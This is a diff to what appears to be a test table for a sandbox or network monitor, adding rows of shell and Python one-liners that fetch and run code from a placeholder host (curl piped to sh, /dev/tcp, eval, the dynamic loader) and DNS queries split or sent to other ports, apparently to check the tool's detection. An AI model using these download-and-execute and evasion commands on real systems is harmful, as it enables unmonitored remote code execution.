@@ -435,6 +435,23 @@ link.send(record(hello[:40]) + record(hello[40:])); time.sleep(0.1)' 2>/dev/null
     { limit: 'split-greeting' },
   ],
   [
+    'of a resolver on another port',
+    `python3 -c 'import os, socket
+name = b"".join(bytes([len(part)]) + part.encode() for part in "${POOL}".split("."))
+query = bytes([0, 7, 1, 0, 0, 1, 0, 0, 0, 0, 0, 0]) + name + bytes([0, 0, 1, 0, 1])
+socket.socket(2, 2).sendto(query, (os.environ["NAMES"], 5353))'`,
+    { limit: 'encrypted-names' },
+  ],
+  [
+    'over TCP, in two parts',
+    `python3 -c 'import os, socket, time
+link = socket.create_connection((os.environ["NAMES"], 53)); link.setsockopt(6, 1, 1)
+name = b"".join(bytes([len(part)]) + part.encode() for part in "${POOL}".split("."))
+query = bytes([0, 7, 1, 0, 0, 1, 0, 0, 0, 0, 0, 0]) + name + bytes([0, 0, 1, 0, 1])
+link.send(bytes([0, len(query)]) + query[:20]); time.sleep(0.1); link.send(query[20:]); time.sleep(0.1)' 2>/dev/null`,
+    { limit: 'split-greeting' },
+  ],
+  [
     'over HTTPS',
     `$PROGRAM say plain $NAMES 443 $'POST /dns-query HTTP/1.1\\r\\n\\r\\n\\x00\\x07\\x01\\x00'`,
     { limit: 'encrypted-names' },
@@ -461,8 +478,8 @@ export const DOWNLOADS: readonly Row[] = [
   ['sh -c "$(curl)"', 'sh -c "$(curl -s $WEB/job)"', fetched],
   [
     'unpacked from an archive',
-    'printf "#!/bin/sh\\nsleep 0.1\\n" > inner; chmod +x inner; tar cf a.tar inner; rm inner; curl -s -o b.tar $WEB/job; tar xf a.tar; ./inner',
-    { limit: 'unpacked' },
+    'printf "#!/bin/sh\\nsleep 0.3\\n" > inner; chmod +x inner; tar cf a.tar inner; rm inner; curl -s -o b.tar file://$PWD/a.tar; tar xf b.tar; ./inner',
+    fetched,
   ],
   [
     'a program, unpacked from an archive',
@@ -485,7 +502,41 @@ export const DOWNLOADS: readonly Row[] = [
 sed '1,/^.$/d' <&3 > job; sh job`,
     fetched,
   ],
+  [
+    '/dev/tcp to a file, by the shell alone',
+    `target=\${WEB#http://}; exec 3<>/dev/tcp/\${target/://}; printf 'GET /job HTTP/1.0\\r\\n\\r\\n' >&3
+while read -r line && [ "$line" != $'\\r' ]; do :; done <&3
+while read -r line; do echo "$line"; done <&3 > job; echo 'sleep 0.3' >> job; sh job`,
+    fetched,
+  ],
+  [
+    '/dev/tcp, of which a shell reads',
+    `target=\${WEB#http://}; exec 3<>/dev/tcp/\${target/://}; printf 'GET /job HTTP/1.0\\r\\n\\r\\n' >&3
+while read -r line && [ "$line" != $'\\r' ]; do :; done <&3; sh <&3`,
+    fetched,
+  ],
+  [
+    'python, to a file for a shell',
+    `python3 -c 'import os, urllib.request as u; u.urlretrieve(os.environ["WEB"] + "/job", "job")'; echo 'sleep 0.3' >> job; sh job`,
+    fetched,
+  ],
+  [
+    'copied by a filter that is done at once',
+    'curl -s -o part $WEB/program; cat part > job; chmod +x job; ./job',
+    fetched,
+  ],
+  [
+    'by the dynamic loader',
+    'curl -s -o job $WEB/program; /lib64/ld-linux-x86-64.so.2 ./job 2>/dev/null; true',
+    fetched,
+  ],
   ['eval', 'eval "$(curl -s $WEB/job)"', { limit: 'same-shell' }],
+  ['sourced by the shell that fetched it', 'curl -s -o job $WEB/job; . ./job', { limit: 'same-shell' }],
+  [
+    'python that hands it to a shell as a command',
+    `python3 -c 'import os, urllib.request as u; os.system(u.urlopen(os.environ["WEB"] + "/job").read().decode())'`,
+    { limit: 'same-shell' },
+  ],
   [
     'by another shell of the tree',
     `sh -c 'curl -s -o job $WEB/job'; sh -c 'chmod +x job && ./job; true'`,
